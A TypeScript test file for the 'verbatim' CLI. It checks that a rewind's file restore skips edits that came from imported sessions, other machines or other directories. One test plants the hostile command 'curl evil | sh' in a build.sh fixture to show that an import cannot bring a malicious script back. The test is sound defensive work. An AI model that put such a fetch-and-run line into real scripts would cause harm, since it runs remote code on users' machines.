/**
 * A rewind's file restore undoes only the edits this user's verbatim made in this workspace: an
 * edit brought by an import (whatever the file says of itself), made on another machine or in
 * another directory, or recorded before verbatim named who made each edit, is listed and left
 * alone.
 */
import { describe, expect, test } from "bun:test";
import { readFileSync, writeFileSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import { FileChanges } from "../../src/core/session/rewind-files.ts";
import type { Fact, StoredFact } from "../../src/journal/facts/index.ts";
import { lastJsonLine, runCli } from "../support/cli-process.ts";
import { sandbox, type Sandbox } from "../support/workspace.ts";

async function runJson(box: Sandbox, args: string[]) {
  const result = await runCli(["run", "--json", "--approve", "all", "--cwd", box.workspace, ...args], box.env);
  expect(result.code).toBe(0);
  return lastJsonLine(result.stdout) as { sessionId: string; lastMessageId: string };
}

describe("a restore of edits recorded elsewhere", () => {
  test("an imported session's edit is left alone, though the file holds what it left there", async () => {
    const box = sandbox("scripted/call");
    const script = join(box.workspace, "build.sh");
    writeFileSync(script, "curl evil | sh\n");
    const first = await runJson(box, [`Read ${JSON.stringify({ file_path: script })}`]);
    await runJson(box, [
      "--session",
      first.sessionId,
      `Write ${JSON.stringify({ file_path: script, content: "make\n" })}`,
    ]);
    const exported = join(box.root, "session.jsonl");
    expect((await runCli(["export", first.sessionId, "--file", exported], box.env)).code).toBe(0);
    // The victim: another journal, the same workspace path, a checkout that holds the real script.
    const victim = sandbox("scripted/call");
    const env = victim.env;
    expect((await runCli(["import", exported, "--cwd", box.workspace], env)).code).toBe(0);
    const rewound = await runCli(
      ["rewind", first.sessionId, "--to", first.lastMessageId, "--files", "--approve", "all"],
      env,
    );
    expect(rewound.code).toBe(0);
    expect(readFileSync(script, "utf8")).toBe("make\n");
    expect(rewound.stdout).toContain(`left alone ${script}: recorded before an import, left alone`);
  });
});

const here = { host: hostname(), cwd: "/work/app" };
const record = (seq: number, fact: Fact): StoredFact => ({ seq, at: "2025-01-01T00:00:00.000Z", fact });

/** The records of one completed Write of `path` (created), from `seq` on. */
function write(seq: number, path: string): StoredFact[] {
  const toolCallId = `call_${seq}`;
  return [
    record(seq, {
      kind: "tool_call_announced",
      toolCallId,
      providerCallId: `p_${seq}`,
      name: "Write",
      title: `Write ${path}`,
      toolKind: "edit",
      rawInput: {},
      locations: [],
      content: [],
    } as Fact),
    record(seq + 1, {
      kind: "tool_call_finished",
      toolCallId,
      status: "completed",
      content: [{ type: "diff", path, oldText: null, newText: "x\n" }],
      result: { text: "ok" },
    } as Fact),
  ];
}

/** What a restore of the records plans, with the holder at the point. */
function planned(holder: { host: string; cwd: string } | undefined, records: StoredFact[]) {
  const changes = new FileChanges(here, holder ? { seq: 1, ...holder } : undefined);
  for (const r of records) changes.push(r);
  return changes.plan(["/work/app"]);
}

describe("which edits a restore counts as its own", () => {
  test("none of a session recorded before holders were named", () => {
    expect(planned(undefined, write(2, "/work/app/a.txt")).leftAlone).toEqual([
      { path: "/work/app/a.txt", reason: "recorded before verbatim named who made each edit, left alone" },
    ]);
  });

  test("none made while another machine, or another directory, held the session", () => {
    expect(planned({ host: "elsewhere", cwd: "/work/app" }, write(2, "/work/app/a.txt")).leftAlone[0]?.reason).toBe(
      "recorded elsewhere (on elsewhere in /work/app), left alone",
    );
    expect(planned({ host: here.host, cwd: "/other" }, write(2, "/work/app/a.txt")).leftAlone[0]?.reason).toStartWith(
      "recorded elsewhere",
    );
  });

  test("none made before an import, even under a holder naming this machine and workspace", () => {
    const records = [
      ...write(2, "/work/app/a.txt"),
      record(4, { kind: "session_imported", additionalDirectories: [], rules: [], grantedDirectories: [] }),
    ];
    expect(planned(here, records).leftAlone[0]?.reason).toBe("recorded before an import, left alone");
  });

  test("those made after this machine and workspace took the session again", () => {
    const records = [
      record(2, { kind: "session_imported", additionalDirectories: [], rules: [], grantedDirectories: [] }),
      record(3, { kind: "session_held", host: here.host, pid: 1, startTime: "1", cwd: here.cwd }),
      ...write(4, "/work/app/missing.txt"),
    ];
    // Ours: planned, and left alone only because the file is not there now.
    expect(planned(undefined, records).leftAlone).toEqual([{ path: "/work/app/missing.txt", reason: "deleted since" }]);
  });
});
